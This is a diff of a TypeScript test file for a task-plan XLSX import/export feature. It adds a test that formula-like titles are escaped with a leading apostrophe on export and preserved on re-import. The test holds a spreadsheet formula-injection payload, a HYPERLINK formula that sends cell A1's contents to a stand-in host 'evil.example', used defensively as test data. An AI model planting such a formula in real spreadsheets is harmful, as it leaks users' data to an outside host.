@@ -3,6 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as XLSX from 'xlsx';
 import { buildTestApp, type TestApp } from '../../../../tests/support/app.js';
 import { as, enrolTotp, userWithRoles, type Browser } from '../../../../tests/support/sessions.js';
+import { multipartFile } from '../../../../tests/support/uploads.js';
 import { auditEvents } from '../../db/platform-schema.js';
 import { tasks } from './schema.js';
 import { taskColumns, tasksSheetName } from './xlsx-columns.js';
@@ -18,17 +19,6 @@ beforeAll(async () => {
   manager = pm.browser;
 });
 afterAll(() => t.close());
-
-function multipartFile(fileName: string, bytes: Buffer) {
-  const boundary = `----doimoi${Math.random().toString(16).slice(2)}`;
-  const head = Buffer.from(
-    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
-  );
-  return {
-    payload: Buffer.concat([head, bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
-    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
-  };
-}
 
 const headers = taskColumns.map((c) => c.header);
 
@@ -133,6 +123,23 @@ describe('task import (XLSX)', () => {
     expect(again.statusCode).toBe(400);
     expect(again.json().error.details.rows).toHaveLength(2000);
     expect(await t.testDb.database.db.$count(tasks, eq(tasks.planId, planId))).toBe(2000);
+  });
+
+  it("exports a title a spreadsheet would run as text (leading apostrophe), and imports it back as it was written", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Mở")';
+    const [row] = generatedRows(1);
+    row![0] = 'CT-01';
+    row![3] = formula;
+    row![5] = '-5 % chi phí so với năm trước';
+    const first = await createPlan('CT/KH-1');
+    expect((await importInto(first, workbookOf([row!]))).statusCode).toBe(200);
+    const exported = await as(t.app, manager)({ method: 'GET', url: `/api/plans/${first}/export.xlsx` });
+    const cells = readRows(exported.rawPayload).find((r) => r[0] === 'CT-01')!;
+    expect([cells[3], cells[5]]).toEqual([`'${formula}`, "'-5 % chi phí so với năm trước"]);
+    const second = await createPlan('CT/KH-2');
+    expect((await importInto(second, exported.rawPayload)).statusCode).toBe(200);
+    const [copy] = await t.testDb.database.db.select().from(tasks).where(and(eq(tasks.planId, second), eq(tasks.code, 'CT-01')));
+    expect([copy?.titleVi, copy?.descriptionVi]).toEqual([formula, '-5 % chi phí so với năm trước']);
   });
 
   it('round-trips: the export of Plan 4354/KH-UBND imports into another plan and exports again identically', async () => {
